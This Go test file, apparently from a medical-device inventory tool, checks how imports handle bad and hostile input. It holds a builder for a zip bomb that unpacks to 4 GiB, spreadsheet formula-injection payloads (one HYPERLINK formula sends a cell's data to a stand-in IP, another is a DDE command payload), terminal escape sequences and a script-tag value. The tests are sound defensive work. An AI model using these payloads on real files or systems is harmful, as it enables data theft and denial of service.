package app

import (
	"archive/zip"
	"bufio"
	"bytes"
	"compress/flate"
	"encoding/csv"
	"fmt"
	"hash/crc32"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"pons/demo"
	"pons/sqldb/sqldbtest"
)

const goodCSV = "Control #,Mfgr,Model,Serial #,Dept\nCE-1,Philips,MX800,DE1,ICU 3\nCE-2,B. Braun,Infusomat Space,77,ICU 3\n"

// write puts a file into the site.
func (s *site) write(name, text string) {
	s.t.Helper()
	if err := os.WriteFile(filepath.Join(s.dir, name), []byte(text), 0o600); err != nil {
		s.t.Fatal(err)
	}
}

// serve runs the real server on the site's data until the test ends, and returns its address.
func (s *site) serve() string {
	s.t.Helper()
	cmd := s.command("serve", "--listen", "127.0.0.1:0")
	out, err := cmd.StderrPipe()
	if err != nil {
		s.t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		s.t.Fatal(err)
	}
	s.t.Cleanup(func() {
		_ = cmd.Process.Signal(os.Interrupt)
		_, _ = io.Copy(io.Discard, out)
		if err := cmd.Wait(); err != nil {
			s.t.Errorf("the server ended with %v", err)
		}
	})
	lines := bufio.NewScanner(out)
	for lines.Scan() {
		if m := servesAt.FindStringSubmatch(lines.Text()); m != nil {
			return m[1]
		}
	}
	s.t.Fatal("the server does not say where it is")
	return ""
}

// sparse makes a file of size bytes that begins with text and has holes for the rest.
func sparse(t *testing.T, path, text string, size int64) {
	t.Helper()
	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Truncate(path, size); err != nil {
		t.Fatal(err)
	}
}

// endless writes a line without end, 64 MB of it, after text.
func endless(t *testing.T, path, text string) {
	t.Helper()
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	block := bytes.Repeat([]byte("a"), 1<<20)
	if _, err := f.WriteString(text); err != nil {
		t.Fatal(err)
	}
	for range 64 {
		if _, err := f.Write(block); err != nil {
			t.Fatal(err)
		}
	}
}

// bomb makes a workbook of a few MB whose one sheet unpacks to 4 GiB: one MiB of it is packed once and repeated.
func bomb(t *testing.T, path, head, repeated string) {
	t.Helper()
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	z := zip.NewWriter(f)
	for name, text := range map[string]string{
		"[Content_Types].xml":        `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>`,
		"xl/workbook.xml":            `<workbook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>`,
		"xl/_rels/workbook.xml.rels": `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
	} {
		w, err := z.Create(name)
		if err == nil {
			_, err = io.WriteString(w, text)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	var packed bytes.Buffer
	w, err := flate.NewWriter(&packed, flate.BestCompression)
	if err != nil {
		t.Fatal(err)
	}
	part := func(text string) []byte {
		from := packed.Len()
		if _, err := io.WriteString(w, text); err != nil {
			t.Fatal(err)
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		return packed.Bytes()[from:]
	}
	const mebibytes = 4096
	text := strings.Repeat(repeated, (1<<20)/len(repeated))
	begin := bytes.Clone(part(head))
	part(text) // refers to what stands before; the second refers to the first of its own kind
	again := bytes.Clone(part(text))
	sum := crc32.NewIEEE()
	io.WriteString(sum, head)
	for range mebibytes {
		io.WriteString(sum, text)
	}
	body, err := z.CreateRaw(&zip.FileHeader{Name: "xl/worksheets/sheet1.xml", Method: zip.Deflate, CRC32: sum.Sum32(),
		UncompressedSize64: uint64(len(head)) + mebibytes*uint64(len(text)), CompressedSize64: uint64(packed.Len()) + (mebibytes-2)*uint64(len(again)) + 5})
	if err != nil {
		t.Fatal(err)
	}
	body.Write(begin)
	body.Write(packed.Bytes()[len(begin) : packed.Len()-len(again)])
	for range mebibytes - 1 {
		body.Write(again)
	}
	body.Write([]byte{1, 0, 0, 0xff, 0xff}) // an empty last block
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
}

// badInputs are files that cannot be read, each with the line that says why: the file, the place where there is one, and
// the mend.
var badInputs = []struct {
	name, file string
	make       func(t *testing.T, path string)
	want       string // regular expression of the whole line
}{
	{"nothing but holes, 3 GB", "holes.csv", func(t *testing.T, path string) { sparse(t, path, "", 3<<30) },
		`holes\.csv: the content is no table that is understood .*; export it as CSV or XLSX`},
	{"a table that goes over into holes, 3 GB", "half.csv", func(t *testing.T, path string) {
		sparse(t, path, goodCSV+strings.Repeat("CE-3,Philips,MX800,DE3,ICU 3\n", 4000), 3<<30)
	}, `half\.csv: line 4004 has no end within 4 MiB, .*export it as XLSX`},
	{"one line without end", "line.csv", func(t *testing.T, path string) { endless(t, path, "") },
		`line\.csv: line 1 has no end within 4 MiB, .*check the delimiter and line ends.*`},
	{"a last line without end", "last.csv", func(t *testing.T, path string) { endless(t, path, goodCSV) },
		`last\.csv: line 4 has no end within 4 MiB, .*check the delimiter and line ends.*`},
	{"zip bomb of text", "bomb.xlsx", func(t *testing.T, path string) {
		bomb(t, path, `<worksheet><sheetData><row r="1"><c t="str"><v>`, "a")
	}, `bomb\.xlsx: .*row 1.*`},
	{"zip bomb of rows", "rows.xlsx", func(t *testing.T, path string) {
		bomb(t, path, `<worksheet><sheetData>`, `<row></row>`)
	}, `rows\.xlsx: there are no cells with text in it; export it again`},
	{"workbook with a password", "locked.xlsx", func(t *testing.T, path string) {
		// What Office writes for one: a compound file (MS-CFB) with the streams EncryptionInfo and EncryptedPackage.
		sparse(t, path, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"+strings.Repeat("\x00", 16)+"\x3e\x00\x03\x00\xfe\xff\x09\x00", 16<<10)
	}, `locked\.xlsx: this is an old Office file or one protected by a password; save it as \.xlsx without a password`},
	{"header and nothing else", "header.csv", func(t *testing.T, path string) { sparse(t, path, "Control #,Mfgr,Model,Serial #\n", 30) },
		`header\.csv: there is a header \(line 1: Control # …\) but no row of data below it; export it again with its rows`},
	{"empty", "empty.csv", func(t *testing.T, path string) { sparse(t, path, "", 0) },
		`empty\.csv: the file is empty; export it again`},
	{"garbage", "garbage.csv", func(t *testing.T, path string) {
		sparse(t, path, strings.Repeat("\x8f\x01\x00\xfe\x9c\x16\x02\x03\xee\x07", 500), 5000)
	}, `garbage\.csv: the content is no table that is understood .*`},
	{"compressed table", "table.csv.gz", func(t *testing.T, path string) {
		sparse(t, path, "", 0)
		if err := exec.Command("sh", "-c", `printf 'Control #,Serial\nCE-1,1\n' | gzip > "$0"`, path).Run(); err != nil {
			t.Fatal(err)
		}
	}, `table\.csv\.gz: this is a gzip file; unpack it first`},
	{"folder", "folder.csv", func(t *testing.T, path string) {
		if err := os.Mkdir(path, 0o700); err != nil {
			t.Fatal(err)
		}
	}, `folder\.csv is a folder; name the files in it`},
	{"missing", "missing.csv", func(t *testing.T, path string) {}, `missing\.csv: no such file`},
	{"pipe", "pipe.csv", func(t *testing.T, path string) {
		if err := exec.Command("mkfifo", path).Run(); err != nil {
			t.Fatal(err)
		}
		go func() { // whoever opens it gets a table, and then its end
			if f, err := os.OpenFile(path, os.O_WRONLY, 0); err == nil {
				io.WriteString(f, goodCSV)
				f.Close()
			}
		}()
	}, `pipe\.csv is no file that can be read twice; save it to a file first`},
}

// memoryOfABadInput is more than any of them may take; the program alone takes about 60 MB.
const memoryOfABadInput = 400 << 20

// TestBadInput brings in what cannot be read: one clear line, status 1, the inventory as it was, and the server stays up.
func TestBadInput(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	s.write("good.csv", goodCSV)
	s.must("import", "good.csv", "--source", "cmms", "--at", "2026-03-01")
	before := s.must("devices", "--format", "jsonl")
	address := s.serve()
	for _, c := range badInputs {
		t.Run(c.name, func(t *testing.T) {
			s := &site{t: t, bin: s.bin, dir: s.dir}
			c.make(t, filepath.Join(s.dir, c.file))
			defer os.RemoveAll(filepath.Join(s.dir, c.file))
			begun := time.Now()
			for _, args := range [][]string{{"import", c.file, "--source", "cmms"}, {"import", c.file, "--source", "cmms", "--dry-run", "--format", "jsonl"}} {
				if c.file == "pipe.csv" && len(args) > 4 {
					continue // the writer has gone
				}
				idle := s.run("version").peak
				r := s.run(args...)
				if r.status != exitFailed || !regexp.MustCompile("^pons: "+c.want+"\n$").MatchString(r.err) || strings.Contains(r.out, `"rows":`) || r.out != "" && len(args) < 5 {
					t.Errorf("pons %s: status %d\n%s%.2000s", strings.Join(args, " "), r.status, r.err, r.out)
				}
				// The kernel counts for a process what its parent held when it was made, if that was more: a test under
				// the race detector can hold more than the limit. What pons version is counted is that share.
				if r.peak > max(memoryOfABadInput, idle+idle/4) {
					t.Errorf("took %d MB of memory, pons version %d", r.peak>>20, idle>>20)
				}
			}
			if took := time.Since(begun); took > time.Minute {
				t.Errorf("took %s", took)
			}
			if s.must("devices", "--format", "jsonl") != before {
				t.Error("the inventory is another than before")
			}
			res, err := http.Get(address + "/healthz")
			if err != nil {
				t.Fatal(err)
			}
			res.Body.Close()
			if res.StatusCode != http.StatusOK {
				t.Errorf("the server says %s", res.Status)
			}
		})
	}
	if runs := s.must("import", "runs", "--format", "jsonl"); strings.Count(runs, "\n") != 1 {
		t.Errorf("imports that failed are listed:\n%s", runs)
	}
	s.must("db", "check")
}

// TestCutCapture cuts a capture in the middle of a frame: what was before is shown and is kept, one line says where it
// broke, and the status says that it is not all.
func TestCutCapture(t *testing.T) {
	s := newSite(t)
	whole, err := os.ReadFile("../../shared/data/pcap/lab/dicom_hl7_snmp_dhcp.pcap")
	if err != nil {
		t.Fatal(err)
	}
	s.write("cut.pcap", string(whole[:100_000]))
	const line = "pons: cut.pcap: byte 99074, after frame 175: the file ends inside frame 176; what came before is read; copy the capture again or stop the recording before copying\n"
	for _, args := range [][]string{{"discover", "cut.pcap", "--format", "jsonl"}, {"import", "cut.pcap", "--dry-run", "--format", "jsonl"}, {"import", "cut.pcap"}} {
		r := s.run(args...)
		if r.status != exitFailed || r.err != line || !strings.Contains(r.out, "CTSTATION01") && !strings.Contains(r.out, "9 rows: 9 created") {
			t.Errorf("pons %s: status %d\n%s%s", strings.Join(args, " "), r.status, r.err, r.out)
		}
	}
	if got := s.must("devices", "--format", "jsonl"); strings.Count(got, "\n") != 9 || !strings.Contains(got, "CTSTATION01") {
		t.Errorf("kept:\n%s", got)
	}
	s.write("cut.pcap", string(whole[:24])) // a header and no frame is a capture of a quiet network
	if r := s.run("discover", "cut.pcap", "--format", "jsonl"); r.status != exitDone || r.out != "" || r.err != "" {
		t.Errorf("capture without a frame: status %d\n%s%s", r.status, r.err, r.out)
	}
	s.write("cut.pcap", string(whole[:10]))
	if r := s.run("discover", "cut.pcap"); r.status != exitFailed || r.out != "" || !regexp.MustCompile(`^pons: cut.pcap: byte 0, .*the file ends inside the file header; .*\n$`).MatchString(r.err) {
		t.Errorf("capture with half a header: status %d\n%s%s", r.status, r.err, r.out)
	}
}

// live are cells that a spreadsheet program would run, beside such as it must not touch.
var live = []string{`=HYPERLINK("http://192.0.2.9/?x="&A1,"open")`, `=1+1`, `+1+1`, `-1+1`, `@SUM(1+1)`, "\t=1+1", `=cmd|' /C calc'!A0`}

// TestFormulas brings formulas in as text, and no export makes them live again: checked with LibreOffice, which is
// first shown to run them when it is handed the file as it came.
func TestFormulas(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	var in bytes.Buffer
	w := csv.NewWriter(&in)
	w.Write([]string{"Control #", "Mfgr", "Model", "Serial #", "Dept", "Room", "Hostname", "Owner"})
	for i, cell := range live {
		w.Write([]string{fmt.Sprintf("CE-%d", i), cell, cell, cell, cell, cell, fmt.Sprintf("host-%d", i), cell})
	}
	w.Flush()
	s.write("raw.csv", in.String())
	s.must("import", "raw.csv", "--source", "cmms", "--kind", "cmms")
	jsonl := s.must("devices", "--format", "jsonl")
	if !strings.Contains(jsonl, `"department":"=1+1"`) {
		t.Errorf("a cell that begins with = is not kept as it was:\n%s", jsonl)
	}
	s.write("out.csv", s.must("devices", "--format", "csv"))
	s.write("out.xlsx", s.must("devices", "--format", "xlsx"))

	rows, err := csv.NewReader(strings.NewReader(s.must("devices", "--format", "csv"))).ReadAll()
	if err != nil || len(rows) != len(live)+1 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("the CSV holds %q", cell)
			}
		}
	}
	book, err := excelize.OpenFile(filepath.Join(s.dir, "out.xlsx"))
	if err != nil {
		t.Fatal(err)
	}
	defer book.Close()
	sheet, err := book.GetRows("Devices")
	if err != nil || len(sheet) != len(live)+1 {
		t.Fatalf("%d rows in the workbook, %v", len(sheet), err)
	}

	for file, formulas := range map[string]bool{"raw.csv": true, "out.csv": false, "out.xlsx": false} {
		office := exec.Command("soffice", "-env:UserInstallation=file://"+filepath.Join(s.dir, "office"), "--headless",
			"--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true", "--convert-to", "fods", file) // …, true: run formulas
		if strings.HasSuffix(file, ".xlsx") {
			office.Args = append(office.Args[:3], office.Args[4:]...)
		}
		office.Dir = s.dir
		if out, err := office.CombinedOutput(); err != nil {
			t.Fatalf("soffice: %v: %s", err, out)
		}
		flat, err := os.ReadFile(filepath.Join(s.dir, strings.TrimSuffix(file, filepath.Ext(file))+".fods"))
		if err != nil {
			t.Fatal(err)
		}
		os.Remove(filepath.Join(s.dir, "out.fods"))
		if got := bytes.Contains(flat, []byte("table:formula=")); got != formulas {
			t.Errorf("LibreOffice finds formulas in %s: %v", file, got)
		}
		if !bytes.Contains(flat, []byte("CE-0")) && !bytes.Contains(flat, []byte("host-0")) {
			t.Errorf("LibreOffice finds nothing of %s", file)
		}
	}
}

// TestHostileText holds that what a file says reaches a terminal without control sequences, and JSON as it is.
func TestHostileText(t *testing.T) {
	s := newSite(t)
	s.write("evil.json", `[{"Control #":"CE-1","Serial #":"S1","Hostname":"<script>alert(1)</script>","Dept":"\u001b[31mred\u001b]0;title\u0007"},
		{"Control #":"CE-2","Serial #":"S2\u001b[2J","Hostname":"ok","Dept":"ICU"}]`)
	s.must("import", "evil.json", "--source", "cmms", "--kind", "cmms")
	for _, args := range [][]string{{"devices"}, {"explain", "CE-1"}, {"explain", "CE-2"}, {"devices", "--format", "csv"}, {"devices", "--format", "jsonl"}, {"import", "runs"}} {
		if out := s.must(args...); strings.ContainsAny(out, "\x1b\x07") {
			t.Errorf("pons %s writes control characters: %q", strings.Join(args, " "), out)
		}
	}
	if out := s.must("devices", "--format", "jsonl"); !strings.Contains(out, `<script>alert(1)</script>`) {
		t.Errorf("the name was changed: %s", out)
	}
}

// TestTwoImportsAtOnce starts two imports together: one waits for the other and both are complete.
func TestTwoImportsAtOnce(t *testing.T) {
	t.Parallel()
	eachDatabase(t, func(t *testing.T, s *site) {
		var text bytes.Buffer
		if err := demo.WriteCSV(&text, 4000, 5); err != nil {
			t.Fatal(err)
		}
		s.write("a.csv", text.String())
		s.write("b.csv", text.String())
		s.must("db", "migrate")
		done := make(chan result, 2)
		for _, file := range []string{"a", "b"} {
			cmd := s.command("import", file+".csv", "--source", file, "--kind", "cmms", "--format", "jsonl")
			go func() { done <- s.finish(cmd) }()
		}
		for range 2 {
			if r := <-done; r.status != exitDone || r.err != "" || !strings.Contains(r.out, `"rows":4000,`) {
				t.Errorf("status %d: %s", r.status, r.err)
			}
		}
		if n := strings.Count(s.must("import", "runs", "--format", "jsonl"), "\n"); n != 2 {
			t.Errorf("%d imports", n)
		}
		for line := range strings.Lines(s.must("devices", "--format", "jsonl")) {
			if !strings.Contains(line, `"source":"a","file":"a.csv"`) || !strings.Contains(line, `"source":"b","file":"b.csv"`) {
				t.Fatalf("not in both: %.200s", line)
			}
		}
		s.must("db", "check")
	})
}

// eachDatabase runs the body on a site with SQLite and on one with PostgreSQL.
func eachDatabase(t *testing.T, body func(t *testing.T, s *site)) {
	t.Run("sqlite", func(t *testing.T) { t.Parallel(); body(t, memorySite(t)) })
	t.Run("postgres", func(t *testing.T) {
		t.Parallel()
		s := memorySite(t)
		s.dsn = sqldbtest.Postgres(t, schemas()).DSN
		body(t, s)
	})
}

// TestFullDisk has an import run out of room: one clear line, nothing of it stays, and with room it goes through.
func TestFullDisk(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	s.write("good.csv", goodCSV)
	var text bytes.Buffer
	if err := demo.WriteCSV(&text, 8_000, 5); err != nil {
		t.Fatal(err)
	}
	s.write("big.csv", text.String())
	s.must("import", "good.csv", "--source", "small", "--kind", "cmms")
	before := s.must("devices", "--format", "jsonl")
	st, err := os.Stat(filepath.Join(s.dir, "pons-data", "pons.db"))
	if err != nil {
		t.Fatal(err)
	}
	for _, room := range []int64{64 << 10, 1 << 20, 3 << 20} {
		cmd := s.command(append([]string{fmt.Sprint(st.Size() + room)}, "import", "big.csv", "--source", "big", "--kind", "cmms")...)
		path, err := exec.LookPath("fullpons")
		if err != nil {
			t.Fatal(err)
		}
		cmd.Path, cmd.Args[0] = path, "fullpons"
		r := s.finish(cmd)
		if r.status != exitFailed || !regexp.MustCompile(`^pons: (import of big.csv: )?.*pons\.db.*nothing was written; .*(disk|space).*\n$`).MatchString(r.err) || r.out != "" {
			t.Errorf("with room for %d bytes: status %d\n%s%s", room, r.status, r.err, r.out)
		}
		s.must("db", "check")
		if s.must("devices", "--format", "jsonl") != before {
			t.Errorf("with room for %d bytes: the inventory is another than before", room)
		}
	}
	s.must("import", "big.csv", "--source", "big", "--kind", "cmms")
}
